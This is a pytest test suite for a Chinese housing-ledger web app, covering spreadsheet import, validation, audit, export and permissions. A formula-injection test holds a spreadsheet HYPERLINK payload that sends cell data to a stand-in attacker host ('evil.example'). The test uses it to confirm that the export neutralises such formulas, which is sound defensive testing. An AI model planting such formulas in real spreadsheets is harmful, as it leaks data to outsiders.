"""The unit ledger (房屋台账): import from CSV/XLSX by API and web page, export, template.

Every test asserts what a residents'-committee secretary would notice: units appearing or
not, the list of bad rows they must fix, the file they download, the audit trail.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import random
import re
import threading
import zipfile
import zlib
from decimal import Decimal

import pytest
import sqlalchemy as sa
from openpyxl import Workbook, load_workbook
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from compounds.models import Building, Entrance, Holding, Person, Unit
from compounds.registry import ledger
from core import audit
from core.extensions import db
from core.models import AuditEntry, Role
from tests.factories import id_number

ZH = [c.zh for c in ledger.COLUMNS]
EN = [c.key for c in ledger.COLUMNS]
EN_HEADERS = {"Accept-Language": "en"}


# -- helpers ----------------------------------------------------------------------------------

def row(b="1", e="1", n="101", floor=1, area="89.50", source="登记", dev=0, names="张三",
        ids=None):
    """One ledger row in template column order; ids default to one valid ID per name."""
    if ids is None:
        count = len([x for x in re.split("[;；]", names) if x])
        ids = ";".join(_made_up_id(f"{b}-{e}-{n}-{i}") for i in range(count))
    return [b, e, n, floor, area, source, dev, names, ids]


def _made_up_id(seed: str) -> str:
    """A valid ID number that depends only on `seed` (born on the 15th: no clash with the
    explicit id_number(n) ones, born on the 1st)."""
    k = zlib.crc32(seed.encode())
    return id_number(k % 1000, birth=f"19{60 + k // 1000 % 30}{1 + k // 30000 % 9:02d}15")


def good_rows():
    """Three good units: a co-owned flat, a single owner, a developer-held basement store."""
    return [
        row("1", "1", "101", 1, "89.50", "登记", 0, "张三;李四", f"{id_number(1)};{id_number(2)}"),
        row("1", "1", "201", 2, "90.25", "实测", 0, "王五", id_number(3)),
        row("2", "1", "B01", -1, "12.00", "合同", 1, "", ""),
    ]


def csv_bytes(rows, header=ZH, encoding="utf-8-sig", sep=","):
    out = io.StringIO(newline="")
    w = csv.writer(out, delimiter=sep, lineterminator="\r\n")
    w.writerow(header)
    for r in rows:
        w.writerow(r)
    return out.getvalue().encode(encoding)


def xlsx_bytes(rows, header=ZH):
    wb = Workbook()
    ws = wb.active
    ws.append(header)
    for r in rows:
        ws.append(r)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def counts():
    s = db.session
    return {name: s.scalar(sa.select(sa.func.count()).select_from(model)) for name, model in
            {"units": Unit, "persons": Person, "holdings": Holding, "buildings": Building,
             "entrances": Entrance, "audit": AuditEntry}.items()}


@pytest.fixture
def compound(make):
    return make.compound("同心苑")


@pytest.fixture
def secretary(make, compound):
    return make.user("rc", Role.rc_secretary, compound)


@pytest.fixture
def sec_api(api, secretary):
    return api(secretary)


def post_file(a, cid, content, filename="ledger.csv"):
    return a.post(f"/compounds/{cid}/units/import",
                  data={"file": (io.BytesIO(content), filename)},
                  content_type="multipart/form-data", headers=EN_HEADERS)


def post_csv(a, cid, content):
    return a.post(f"/compounds/{cid}/units/import", data=content,
                  headers={"Content-Type": "text/csv", **EN_HEADERS})


def units_by_label(a, cid):
    resp = a.get(f"/compounds/{cid}/units")
    assert resp.status_code == 200
    return {u["label"]: u for u in resp.get_json()}


def problems(resp):
    assert resp.status_code == 422, resp.get_json()
    body = resp.get_json()["error"]
    assert body["code"] == "invalid_rows"
    return [(r["row"], r["column"], r["message"]) for r in body["details"]["rows"]]


# -- good ledgers ------------------------------------------------------------------------------

def test_csv_with_chinese_header_creates_buildings_units_and_owners(sec_api, compound):
    resp = post_file(sec_api, compound.id, csv_bytes(good_rows()))
    assert resp.status_code == 200, resp.get_json()
    assert resp.get_json() == {"created": 3, "updated": 0}

    units = units_by_label(sec_api, compound.id)
    assert set(units) == {"1-1-101", "1-1-201", "2-1-B01"}
    flat = units["1-1-101"]
    assert flat["area"] == "89.50" and flat["floor"] == 1 and flat["area_source"] == "registered"
    assert [o["name"] for o in flat["owners"]] == ["张三", "李四"]
    assert flat["owners"][0]["id_masked"] == id_number(1)[:4] + "*" * 10 + id_number(1)[-4:]
    assert units["1-1-201"]["area_source"] == "surveyed"
    store = units["2-1-B01"]
    assert store["developer_held"] is True and store["owners"] == [] and store["floor"] == -1
    # a new building's floors are the highest floor the ledger shows (at least 1)
    floors = dict(db.session.execute(sa.select(Building.number, Building.floors)).all())
    assert floors == {"1": 2, "2": 1}


def test_english_header_as_text_csv_body_without_bom(sec_api, compound):
    content = csv_bytes(good_rows(), header=EN, encoding="utf-8")
    assert not content.startswith(codecs.BOM_UTF8)
    resp = post_csv(sec_api, compound.id, content)
    assert resp.status_code == 200, resp.get_json()
    assert resp.get_json() == {"created": 3, "updated": 0}


def test_english_values_for_area_source(sec_api, compound):
    rows = [row(n="101", source="contract"), row(n="102", source="Surveyed"),
            row(n="103", source="")]
    assert post_file(sec_api, compound.id, csv_bytes(rows, header=EN)).status_code == 200
    units = units_by_label(sec_api, compound.id)
    assert [units[f"1-1-10{i}"]["area_source"] for i in (1, 2, 3)] == [
        "contract", "surveyed", "registered"]


def test_gb18030_csv_as_excel_in_china_saves_it(sec_api, compound):
    content = csv_bytes(good_rows(), encoding="gb18030")
    with pytest.raises(UnicodeDecodeError):
        content.decode("utf-8")
    resp = post_file(sec_api, compound.id, content)
    assert resp.status_code == 200, resp.get_json()
    assert [o["name"] for o in units_by_label(sec_api, compound.id)["1-1-101"]["owners"]] == [
        "张三", "李四"]


def test_tab_separated_utf16_text_from_excel(sec_api, compound):
    content = csv_bytes(good_rows(), encoding="utf-16", sep="\t")
    resp = post_file(sec_api, compound.id, content, "ledger.txt")
    assert resp.status_code == 200, resp.get_json()
    assert resp.get_json()["created"] == 3


def test_xlsx_upload_with_numeric_and_boolean_cells(sec_api, compound):
    rows = [[7, 2, 301, 3, 89.5, "登记", False, "张三", id_number(11)],
            [7, 2, 302, 3, 90.55, None, True, None, None],
            ["7", "2", "0303", "3", "88", "实测", "0", "李四", id_number(12)]]
    resp = post_file(sec_api, compound.id, xlsx_bytes(rows), "台账.xlsx")
    assert resp.status_code == 200, resp.get_json()
    units = units_by_label(sec_api, compound.id)
    assert units["7-2-301"]["area"] == "89.50"
    assert units["7-2-302"]["area"] == "90.55" and units["7-2-302"]["developer_held"] is True
    assert "7-2-0303" in units  # a text cell keeps its leading zero


def test_xlsx_sent_as_raw_body(sec_api, compound):
    resp = sec_api.post(f"/compounds/{compound.id}/units/import",
                        data=xlsx_bytes(good_rows()), headers={"Content-Type": ledger.XLSX_MIME})
    assert resp.status_code == 200, resp.get_json()
    assert resp.get_json() == {"created": 3, "updated": 0}


def test_owner_lists_accept_full_width_semicolon_and_trailing_separator(sec_api, compound):
    rows = [row(n="101", names="张三；李四", ids=f"{id_number(1)}；{id_number(2)}"),
            row(n="102", names="王五;", ids=f"{id_number(3)};")]
    resp = post_file(sec_api, compound.id, csv_bytes(rows))
    assert resp.status_code == 200, resp.get_json()
    units = units_by_label(sec_api, compound.id)
    assert [o["name"] for o in units["1-1-101"]["owners"]] == ["张三", "李四"]
    assert [o["name"] for o in units["1-1-102"]["owners"]] == ["王五"]


def test_one_leading_apostrophe_is_dropped_from_text_cells(sec_api, compound):
    rows = [["'1", "'1", "'0101", 1, "89.50", "登记", 0, "'张三", "'" + id_number(1)]]
    resp = post_file(sec_api, compound.id, csv_bytes(rows))
    assert resp.status_code == 200, resp.get_json()
    unit = units_by_label(sec_api, compound.id)["1-1-0101"]
    assert unit["owners"][0]["name"] == "张三"


def test_blank_lines_are_skipped_and_row_numbers_stay_true(sec_api, compound):
    content = csv_bytes([good_rows()[0], [], [""] * 9, row(n="5-1")])
    resp = post_file(sec_api, compound.id, content)
    assert problems(resp) == [(5, "室号", "Must not contain '-' or ';'")]


def test_existing_persons_are_found_by_id_number_not_duplicated(sec_api, compound, make):
    other = make.compound("别的小区")
    somebody = make.person("赵六", n=42)
    make.unit(make.building(other, "9"), "901", owners=[somebody])
    before = counts()["persons"]
    rows = [row(n="101", names="赵六", ids=somebody.id_number)]
    assert post_file(sec_api, compound.id, csv_bytes(rows)).status_code == 200
    assert counts()["persons"] == before
    owner = units_by_label(sec_api, compound.id)["1-1-101"]["owners"][0]
    assert owner["id"] == somebody.id


def test_developer_held_unit_may_have_no_owners(sec_api, compound):
    resp = post_file(sec_api, compound.id, csv_bytes([row(dev=1, names="", ids="")]))
    assert resp.status_code == 200, resp.get_json()
    assert units_by_label(sec_api, compound.id)["1-1-101"]["owners"] == []


# -- bad rows: every one reported, nothing written --------------------------------------------

BAD_ROWS = [
    # (case, changes to a good row, column, message fragment)
    ("building missing", {"b": ""}, "楼号", "Required"),
    ("entrance missing", {"e": " "}, "单元", "Required"),
    ("number too long", {"n": "1" * 17}, "室号", "At most 16 characters"),
    ("dash in entrance", {"e": "1-2"}, "单元", "'-'"),
    ("semicolon in building", {"b": "1;2"}, "楼号", "';'"),
    ("control character in number", {"n": "10\x071"}, "室号", "control characters"),
    ("floor missing", {"floor": ""}, "楼层", "Required"),
    ("floor not a number", {"floor": "三楼"}, "楼层", "whole number"),
    ("floor a fraction", {"floor": "2.5"}, "楼层", "whole number"),
    ("floor zero", {"floor": 0}, "楼层", "between -5 and 200"),
    ("floor too high", {"floor": 201}, "楼层", "between -5 and 200"),
    ("floor too deep", {"floor": -6}, "楼层", "between -5 and 200"),
    ("area missing", {"area": ""}, "建筑面积", "Required"),
    ("area not a number", {"area": "八十"}, "建筑面积", "Area must be a number"),
    ("area three decimals", {"area": "89.555"}, "建筑面积", "at most two decimals"),
    ("area zero", {"area": "0"}, "建筑面积", "greater than 0"),
    ("area negative", {"area": "-5"}, "建筑面积", "greater than 0"),
    ("area absurd", {"area": "100000.01"}, "建筑面积", "implausibly large"),
    ("area in exponent notation", {"area": "1e30"}, "建筑面积", "implausibly large"),
    ("floor in exponent notation", {"floor": "1e999999999"}, "楼层", "between -5 and 200"),
    ("area source unknown", {"source": "估算"}, "面积来源", "Area source must be"),
    ("developer flag not 0/1", {"dev": "是"}, "开发商持有", "0 or 1"),
    ("developer flag 2", {"dev": 2}, "开发商持有", "0 or 1"),
    ("more names than IDs", {"names": "张三;李四", "ids": id_number(5)}, "身份证号",
     "2 names but 1 ID numbers"),
    ("ID number missing", {"names": "张三;李四", "ids": f"{id_number(5)};"}, "身份证号",
     "2 names but 1 ID numbers"),
    ("ID check digit wrong", {"ids": id_number(5)[:17] + ("0" if id_number(5)[17] != "0"
                                                           else "1")},
     "身份证号", "check digit"),
    ("ID wrong shape", {"ids": "31010119800101"}, "身份证号", "18 characters"),
    ("ID impossible birth date", {"ids": "310101198002300011"}, "身份证号", "date of birth"),
    ("ID mangled by Excel", {"ids": "3.10101E+17"}, "身份证号", "Excel turned"),
    ("owner name empty", {"names": ";李四", "ids": f"{id_number(5)};{id_number(6)}"},
     "业主姓名", "name is empty"),
    ("owner name too long", {"names": "张" * 65, "ids": id_number(5)}, "业主姓名",
     "at most 64 characters"),
    ("same person twice in a unit", {"names": "张三;张三",
                                     "ids": f"{id_number(5)};{id_number(5)}"},
     "身份证号", "listed twice"),
    ("no owner for a sold unit", {"names": "", "ids": ""}, "业主姓名",
     "needs at least one owner"),
]


@pytest.mark.parametrize(("changes", "column", "fragment"),
                         [c[1:] for c in BAD_ROWS], ids=[c[0] for c in BAD_ROWS])
def test_each_kind_of_bad_row_is_refused_with_row_and_column(sec_api, compound, changes,
                                                             column, fragment):
    bad = dict(zip(["b", "e", "n", "floor", "area", "source", "dev", "names", "ids"],
                   row(n="301", floor=3, names="赵六", ids=id_number(9)), strict=True))
    bad.update(changes)
    before = counts()
    resp = post_file(sec_api, compound.id, csv_bytes([*good_rows(), list(bad.values())]))
    found = problems(resp)
    assert [(r, c) for r, c, _m in found] == [(5, column)], found
    assert fragment in found[0][2]
    assert counts() == before  # nothing written: no unit, person, holding or audit entry


def test_same_id_with_two_names_in_the_file(sec_api, compound):
    rows = [*good_rows(), row(n="301", floor=3, names="张三丰", ids=id_number(1))]
    found = problems(post_file(sec_api, compound.id, csv_bytes(rows)))
    assert [(r, c) for r, c, _m in found] == [(5, "业主姓名")]
    assert "given as 张三 in row 2" in found[0][2]
    assert id_number(1) not in found[0][2]  # masked in the message


def test_same_id_registered_to_another_name_in_the_database(sec_api, compound, make):
    known = make.person("孙七", n=77)
    before = counts()
    rows = [*good_rows(), row(n="301", floor=3, names="孙八", ids=known.id_number)]
    found = problems(post_file(sec_api, compound.id, csv_bytes(rows)))
    assert [(r, c) for r, c, _m in found] == [(5, "业主姓名")]
    assert "registered to another name" in found[0][2]
    assert counts() == before


def test_duplicate_unit_in_the_file(sec_api, compound):
    rows = [*good_rows(), row("1", "1", "101", names="钱九", ids=id_number(8))]
    found = problems(post_file(sec_api, compound.id, csv_bytes(rows)))
    assert found == [(5, "室号", "Unit 1-1-101 is already in row 2")]


def test_every_bad_row_is_reported_at_once_and_nothing_is_written(sec_api, compound, make):
    b = make.building(compound, "1", floors=6)
    make.unit(b, "101", area="50.00", owners=[make.person("张三", n=1)])
    before = counts()
    rows = [
        row("1", "1", "101", 1, "89.50", "登记", 0, "张三", id_number(1)),  # 2: good update
        row("1", "", "102", 0, "abc", "登记", 0, "李四", id_number(2)),  # 3: three problems
        row("1", "1", "103", 1, "80", "登记", 0, "王五;赵六", id_number(3)),  # 4: count
        row("1", "1", "104", 1, "80", "别的", 3, "", ""),  # 5: source, flag, owners
        row("1", "1", "101", 1, "80", "登记", 0, "钱九", id_number(9)),  # 6: duplicate
        row("1", "1", "105", 1, "80", "登记", 0, "周十", "110105198001010010"),  # 7: check digit
    ]
    found = problems(post_file(sec_api, compound.id, csv_bytes(rows)))
    assert [(r, c) for r, c, _m in found] == [
        (3, "单元"), (3, "楼层"), (3, "建筑面积"),
        (4, "身份证号"),
        (5, "面积来源"), (5, "开发商持有"),
        (6, "室号"),
        (7, "身份证号"),
    ]
    assert counts() == before
    assert db.session.scalar(sa.select(Unit.area)) == Decimal("50.00")  # not updated either


def test_column_names_follow_the_header_as_given(sec_api, compound):
    rows = [row(floor="x")]
    found = problems(post_file(sec_api, compound.id, csv_bytes(rows, header=EN)))
    assert [(r, c) for r, c, _m in found] == [(2, "floor")]


def test_missing_and_unknown_columns_are_named(sec_api, compound):
    header = ["楼号", "单元", "室号", "面积", "业主姓名", "身份证号", "备注"]
    resp = post_file(sec_api, compound.id, csv_bytes([["1", "1", "101", "80", "张三",
                                                       id_number(1), ""]], header=header))
    assert resp.status_code == 422
    err = resp.get_json()["error"]
    assert err["code"] == "invalid_header"
    assert "楼层" in err["message"] and "建筑面积" in err["message"]
    assert "面积" in err["message"] and "备注" in err["message"]
    assert {(r["row"], r["column"], r["message"]) for r in err["details"]["rows"]} == {
        (1, "面积", "Unknown column"), (1, "备注", "Unknown column"),
        (1, "楼层", "Missing column"), (1, "建筑面积", "Missing column")}


def test_a_column_given_twice_is_refused(sec_api, compound):
    header = [*ZH, "building"]
    resp = post_file(sec_api, compound.id, csv_bytes([[*good_rows()[0], "1"]], header=header))
    err = resp.get_json()["error"]
    assert resp.status_code == 422 and err["code"] == "invalid_header"
    assert err["details"]["rows"] == [{"row": 1, "column": "building",
                                       "message": "This column is given twice"}]


# -- re-import: in place, idempotent, audited ----------------------------------------------------

def test_reimporting_the_same_ledger_changes_nothing(sec_api, compound):
    content = csv_bytes(good_rows())
    assert post_file(sec_api, compound.id, content).get_json() == {"created": 3, "updated": 0}
    before = counts()
    assert post_file(sec_api, compound.id, content).get_json() == {"created": 0, "updated": 0}
    after = counts()
    assert after["audit"] == before["audit"] + 1  # only the import's summary entry
    assert {k: v for k, v in after.items() if k != "audit"} == {
        k: v for k, v in before.items() if k != "audit"}
    assert ledger.import_ledger  # the same service the web page calls (tested below)


def test_reimport_updates_units_in_place_and_the_unit_history_shows_it(
        sec_api, compound, secretary, login, client):
    post_file(sec_api, compound.id, csv_bytes(good_rows()))
    ids_before = {label: u["id"] for label, u in units_by_label(sec_api, compound.id).items()}
    changed = good_rows()
    changed[0][4] = "91.00"  # area of 1-1-101 corrected
    changed[1][7], changed[1][8] = "马十一", id_number(21)  # 1-1-201 sold on
    resp = post_file(sec_api, compound.id, csv_bytes(changed))
    assert resp.get_json() == {"created": 0, "updated": 2}

    units = units_by_label(sec_api, compound.id)
    assert {label: u["id"] for label, u in units.items()} == ids_before  # same rows, no dups
    assert units["1-1-101"]["area"] == "91.00"
    assert [o["name"] for o in units["1-1-201"]["owners"]] == ["马十一"]
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Person)
                             .where(Person.name == "王五")) == 1  # the seller stays a person

    history = audit.history("unit", ids_before["1-1-101"])
    assert [e.action for e in history] == ["unit.update", "unit.create"]
    data = audit.entry_data(history[0])
    assert data["before"]["area"] == "89.50" and data["after"]["area"] == "91.00"
    login(secretary)
    client.get("/lang/en")
    page = client.get(f"/units/{ids_before['1-1-101']}").get_data(as_text=True)
    assert "area: 89.50 → 91.00" in page


def test_audit_has_one_summary_and_one_entry_per_changed_unit_with_masked_ids(
        sec_api, compound):
    post_file(sec_api, compound.id, csv_bytes(good_rows(), header=EN), "first.csv")
    entries = db.session.scalars(sa.select(AuditEntry).order_by(AuditEntry.seq)).all()
    assert [e.action for e in entries] == ["ledger.import"] + ["unit.create"] * 3
    summary = audit.entry_data(entries[0])
    assert summary["filename"] == "first.csv"
    assert (summary["created"], summary["updated"], summary["unchanged"]) == (3, 0, 0)
    assert summary["buildings_created"] == ["1", "2"]
    assert {e.object_type for e in entries[1:]} == {"unit"}
    assert all(e.compound_id == compound.id for e in entries)
    everything = " ".join(e.data for e in entries)
    for n in (1, 2, 3):
        assert id_number(n) not in everything  # never a full ID number in the chain
        assert id_number(n)[-4:] in everything  # …but the masked one is there
    assert audit.verify().ok


def test_floors_of_existing_buildings_are_raised_never_lowered(sec_api, compound, make):
    make.building(compound, "1", floors=18)
    make.building(compound, "2", floors=6)
    rows = [row("1", "1", "301", 3), row("2", "1", "901", 9, names="李四", ids=id_number(4))]
    assert post_file(sec_api, compound.id, csv_bytes(rows)).status_code == 200
    floors = dict(db.session.execute(sa.select(Building.number, Building.floors)).all())
    assert floors == {"1": 18, "2": 9}


def test_existing_entrances_are_reused_and_new_ones_created(sec_api, compound, make):
    make.building(compound, "1", entrances=("1", "2"))
    rows = [row("1", "2", "101"), row("1", "3", "101", names="李四", ids=id_number(4))]
    assert post_file(sec_api, compound.id, csv_bytes(rows)).status_code == 200
    assert sorted(db.session.scalars(sa.select(Entrance.number))) == ["1", "2", "3"]


def test_import_needs_no_per_row_queries(sec_api, compound, app):
    """Ten times the units, the same number of statements (bulk reads and writes)."""
    def statements(n, offset):
        rows = [row("9", "1", str(offset + i), 1, "80", "登记", 0, f"业主{offset + i}",
                    id_number(offset + i, birth="19700101")) for i in range(n)]
        seen = []

        def count(*_args):
            seen.append(1)

        sa.event.listen(db.engine, "before_cursor_execute", count)
        try:
            resp = post_file(sec_api, compound.id, csv_bytes(rows))
        finally:
            sa.event.remove(db.engine, "before_cursor_execute", count)
        assert resp.get_json() == {"created": n, "updated": 0}
        return len(seen)

    small, large = statements(30, 100), statements(300, 400)
    assert large <= small + 2, (small, large)


@pytest.mark.pg_only
def test_simultaneous_imports_of_one_ledger_never_duplicate(app, sec_api, compound):
    """Four secretaries press "import" at once: one creates, the others find it done."""
    content, path = csv_bytes(good_rows()), f"/api/v1/compounds/{compound.id}/units/import"
    barrier = threading.Barrier(4)
    results: list = [None] * 4

    def worker(i):
        client = app.test_client()
        barrier.wait()
        resp = client.post(path, data=content,
                           headers={"Authorization": f"Bearer {sec_api.token}",
                                    "Content-Type": "text/csv"})
        results[i] = (resp.status_code, resp.get_json())

    threads = [threading.Thread(target=worker, args=(i,)) for i in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=60)
    assert sorted(r[1]["created"] for r in results) == [0, 0, 0, 3], results
    assert {r[0] for r in results} == {200}
    db.session.expire_all()
    assert counts()["units"] == 3 and counts()["persons"] == 3
    assert audit.verify().ok


# -- export, template, round trip, formula injection ---------------------------------------------

def export(client, cid, reason="核对面积"):
    return client.post(f"/compounds/{cid}/ledger/export", data={"reason": reason})


def test_export_asks_for_a_reason_and_logs_it(secretary, compound, login, client, sec_api):
    post_file(sec_api, compound.id, csv_bytes(good_rows()))
    login(secretary)
    client.get("/lang/en")
    page = client.get(f"/compounds/{compound.id}/ledger/export")
    assert page.status_code == 200 and "full ID numbers" in page.get_data(as_text=True)

    before = counts()["audit"]
    refused = export(client, compound.id, reason="   ")
    assert refused.status_code == 422
    assert refused.mimetype == "text/html"
    assert counts()["audit"] == before

    resp = export(client, compound.id, reason="移交业委会核对面积")
    assert resp.status_code == 200 and resp.mimetype == ledger.XLSX_MIME
    assert "attachment" in resp.headers["Content-Disposition"]
    assert resp.headers["Cache-Control"] == "no-store"
    entry = db.session.scalars(sa.select(AuditEntry).order_by(AuditEntry.seq.desc())).first()
    assert entry.action == "ledger.export" and entry.actor == "rc"
    assert json.loads(entry.data) == {"reason": "移交业委会核对面积", "rows": 3, "format": "xlsx"}


def test_export_then_import_round_trips_with_no_changes(secretary, compound, login, client,
                                                       sec_api):
    rows = [*good_rows(),
            row("12A", "2", "1501", 15, "120.05", "合同", 1, "孙七", id_number(31)),
            row("3", "1", "-1", -1, "0.01", "登记", 0, "=1+2", id_number(32))]
    rows[-1][2] = "B1"
    assert post_file(sec_api, compound.id, csv_bytes(rows)).get_json()["created"] == 5
    login(secretary)
    exported = export(client, compound.id).data
    wb = load_workbook(io.BytesIO(exported))
    assert [c.value for c in next(wb.active.iter_rows(max_row=1))] == ZH

    before = counts()
    resp = post_file(sec_api, compound.id, exported, "export.xlsx")
    assert resp.get_json() == {"created": 0, "updated": 0}
    assert counts()["units"] == before["units"] and counts()["persons"] == before["persons"]


def test_formula_in_a_name_is_stored_as_text_and_exported_harmless(secretary, compound, login,
                                                                  client, sec_api):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    rows = [row(n="101", floor=-1, names=evil, ids=id_number(41)),
            row(n="102", floor=2, area="90.5", names="+张三", ids=id_number(42))]
    assert post_file(sec_api, compound.id, csv_bytes(rows)).status_code == 200
    assert db.session.scalar(sa.select(Person.name).where(
        Person.id_number == id_number(41))) == evil

    login(secretary)
    exported = export(client, compound.id).data
    ws = load_workbook(io.BytesIO(exported)).active
    first, second = list(ws.iter_rows(min_row=2, max_row=3))
    assert first[7].data_type == "s" and first[7].value == "'" + evil  # text, not a formula
    assert second[7].value == "'+张三"
    assert first[3].data_type == "n" and first[3].value == -1  # a number, not "'-1"
    assert second[4].data_type == "n" and second[4].value == 90.5
    assert second[4].number_format == "0.00"
    assert first[6].value == 0 and first[5].value == "登记"
    assert first[8].value == id_number(41)  # full ID number, as text
    with zipfile.ZipFile(io.BytesIO(exported)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula anywhere in the file

    resp = post_file(sec_api, compound.id, exported, "export.xlsx")
    assert resp.get_json() == {"created": 0, "updated": 0}  # the apostrophe round-trips


def test_templates_download_and_import_as_they_are(secretary, compound, login, client,
                                                   sec_api):
    login(secretary)
    resp = client.get("/compounds/ledger/template?format=xlsx")
    assert resp.status_code == 200 and resp.mimetype == ledger.XLSX_MIME
    wb = load_workbook(io.BytesIO(resp.data))
    sheet = wb.worksheets[0]
    values = [[c.value for c in r] for r in sheet.iter_rows()]
    assert values[0] == ZH and len(values) == 2
    assert values[1][:4] == ["1", "1", "101", 1]
    assert len(wb.worksheets) == 2  # notes on how to fill it in
    assert post_file(sec_api, compound.id, resp.data, "template.xlsx").get_json() == {
        "created": 1, "updated": 0}

    csv_resp = client.get("/compounds/ledger/template?format=csv")
    assert csv_resp.status_code == 200 and csv_resp.mimetype == "text/csv"
    assert csv_resp.data.startswith(codecs.BOM_UTF8)  # Excel opens it without garbling
    assert csv_resp.data.decode("utf-8-sig").splitlines()[0] == ",".join(ZH)
    assert post_file(sec_api, compound.id, csv_resp.data).get_json() == {
        "created": 0, "updated": 0}
    assert client.get("/compounds/ledger/template?format=pdf").status_code == 404


# -- broken, empty, oversized and foreign files ---------------------------------------------------

def _error(resp, status, code):
    assert resp.status_code == status, resp.get_data(as_text=True)[:300]
    assert resp.is_json
    body = resp.get_json()["error"]
    assert body["code"] == code
    assert body["message"]
    return body["message"]


@pytest.mark.parametrize(("content", "filename"), [
    (b"PK\x03\x04" + b"\x00not really a zip" * 20, "ledger.xlsx"),
    (b"this is not a workbook at all", "ledger.xlsx"),
    (random.Random(7).randbytes(4000), "ledger.xlsx"),
], ids=["zip header only", "text named xlsx", "random bytes named xlsx"])
def test_corrupt_xlsx_is_a_clear_422(sec_api, compound, content, filename):
    before = counts()
    message = _error(post_file(sec_api, compound.id, content, filename), 422, "invalid_file")
    assert "XLSX" in message
    assert counts() == before


def test_a_zip_that_is_not_a_workbook_is_a_clear_422(sec_api, compound):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("word/document.xml", "<w:document/>")
    _error(post_file(sec_api, compound.id, buf.getvalue(), "ledger.xlsx"), 422, "invalid_file")


def test_binary_garbage_named_csv_is_a_clear_422(sec_api, compound):
    garbage = random.Random(3).randbytes(3000)
    _error(post_file(sec_api, compound.id, garbage, "ledger.csv"), 422, "invalid_file")


@pytest.mark.parametrize("content", [b"", b"\r\n\r\n", codecs.BOM_UTF8],
                         ids=["zero bytes", "blank lines", "BOM only"])
def test_empty_file(sec_api, compound, content):
    assert "empty" in _error(post_file(sec_api, compound.id, content), 422, "empty_file")


def test_header_only(sec_api, compound):
    _error(post_file(sec_api, compound.id, csv_bytes([])), 422, "no_rows")
    _error(post_file(sec_api, compound.id, xlsx_bytes([]), "l.xlsx"), 422, "no_rows")


def test_wrong_content_types_are_415(sec_api, compound):
    resp = sec_api.post(f"/compounds/{compound.id}/units/import", json={"rows": []})
    _error(resp, 415, "unsupported_media_type")
    _error(post_file(sec_api, compound.id, b"%PDF-1.7 ...", "ledger.pdf"), 415,
           "unsupported_file")
    old_excel = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500
    assert ".xlsx" in _error(post_file(sec_api, compound.id, old_excel, "ledger.xls"), 415,
                             "unsupported_file")


def _upload_big(client, path, content, headers=None):
    # encoded in memory: the test client would spool it to a file it never closes
    boundary, body = encode_multipart({"file": FileStorage(io.BytesIO(content), "big.csv")})
    return client.post(path, data=body, headers=headers,
                       content_type=f"multipart/form-data; boundary={boundary}")


def test_an_upload_over_10_mb_is_413(sec_api, compound, secretary, login, client):
    big = csv_bytes(good_rows()) + b"x" * (10 * 1024 * 1024)
    path = f"/compounds/{compound.id}/units/import"
    auth = {"Authorization": f"Bearer {sec_api.token}"}
    _error(_upload_big(client, "/api/v1" + path, big, auth), 413, "payload_too_large")
    _error(post_csv(sec_api, compound.id, big), 413, "payload_too_large")
    login(secretary)
    resp = _upload_big(client, f"/compounds/{compound.id}/ledger/import", big)
    assert resp.status_code == 413
    assert counts()["units"] == 0


def test_too_many_rows_is_refused(sec_api, compound, monkeypatch):
    monkeypatch.setattr(ledger, "MAX_ROWS", 5)
    rows = [row(n=str(100 + i), names=f"业主{i}", ids=id_number(100 + i)) for i in range(6)]
    assert "more than 5 rows" in _error(post_file(sec_api, compound.id, csv_bytes(rows)), 422,
                                        "too_many_rows")
    assert counts()["units"] == 0
    assert post_file(sec_api, compound.id, csv_bytes(rows[:5])).status_code == 200


# -- permissions ---------------------------------------------------------------------------------

def test_out_of_scope_staff_get_403_and_nothing_is_written(make, api, login, client, compound):
    elsewhere = make.user("other_rc", Role.rc_secretary, make.compound("别处"))
    before = counts()
    resp = post_file(api(elsewhere), compound.id, csv_bytes(good_rows()))
    assert resp.status_code == 403 and resp.get_json()["error"]["code"] == "forbidden"
    login(elsewhere)
    assert client.get(f"/compounds/{compound.id}/ledger/import").status_code == 403
    assert client.post(f"/compounds/{compound.id}/ledger/import",
                       data={"file": (io.BytesIO(csv_bytes(good_rows())), "l.csv")},
                       content_type="multipart/form-data").status_code == 403
    assert export(client, compound.id).status_code == 403
    assert counts()["units"] == before["units"]
    assert db.session.scalar(sa.select(sa.func.count()).select_from(AuditEntry)
                             .where(AuditEntry.action == "ledger.export")) == 0


def test_roles_without_the_right_are_refused(make, api, login, client, compound):
    oc = make.user("oc", Role.oc_member, compound)  # may view, not import or export
    assert post_file(api(oc), compound.id, csv_bytes(good_rows())).status_code == 403
    login(oc)
    assert client.get(f"/compounds/{compound.id}/ledger/import").status_code == 403
    assert client.get(f"/compounds/{compound.id}/ledger/export").status_code == 403
    assert client.get("/compounds/ledger/template").status_code == 403
    assert api().post(f"/compounds/{compound.id}/units/import", data=b"x",
                      headers={"Content-Type": "text/csv"}).status_code == 401


def test_district_admin_of_the_district_may_import(make, api, compound):
    admin = make.user("da", Role.district_admin, compound.street.district_id)
    assert post_file(api(admin), compound.id, csv_bytes(good_rows())).status_code == 200


# -- the web page ----------------------------------------------------------------------------------

def upload(client, cid, content, filename="ledger.csv"):
    return client.post(f"/compounds/{cid}/ledger/import",
                       data={"file": (io.BytesIO(content), filename)},
                       content_type="multipart/form-data")


def test_import_page_shows_form_template_links_and_result(secretary, compound, login, client):
    login(secretary)
    client.get("/lang/en")
    page = client.get(f"/compounds/{compound.id}/ledger/import").get_data(as_text=True)
    assert 'enctype="multipart/form-data"' in page and 'type="file"' in page
    assert "/compounds/ledger/template?format=xlsx" in page
    assert "/compounds/ledger/template?format=csv" in page

    resp = upload(client, compound.id, xlsx_bytes(good_rows()), "台账.xlsx")
    assert resp.status_code == 200
    text = resp.get_data(as_text=True)
    assert "3 units created, 0 updated, 0 unchanged" in text
    resp = upload(client, compound.id, xlsx_bytes(good_rows()), "台账.xlsx")
    assert "0 units created, 0 updated, 3 unchanged" in resp.get_data(as_text=True)
    assert counts()["units"] == 3


